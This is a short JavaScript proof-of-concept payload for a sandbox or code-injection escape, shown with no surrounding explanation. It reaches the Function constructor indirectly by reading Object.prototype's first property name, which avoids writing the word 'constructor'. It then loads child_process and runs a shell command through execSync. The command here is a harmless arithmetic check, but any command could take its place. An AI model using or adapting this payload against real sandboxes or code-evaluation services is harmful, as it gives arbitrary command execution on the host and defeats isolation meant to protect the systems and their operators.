const k=Object.getOwnPropertyNames(Object.prototype)[0]; let o=1;
for(let i=0;i<2;i++) o=o[k];
o('process.mainModule.require("child_process").execSync("expr 40 + 1001",{stdio:"inherit"})')();
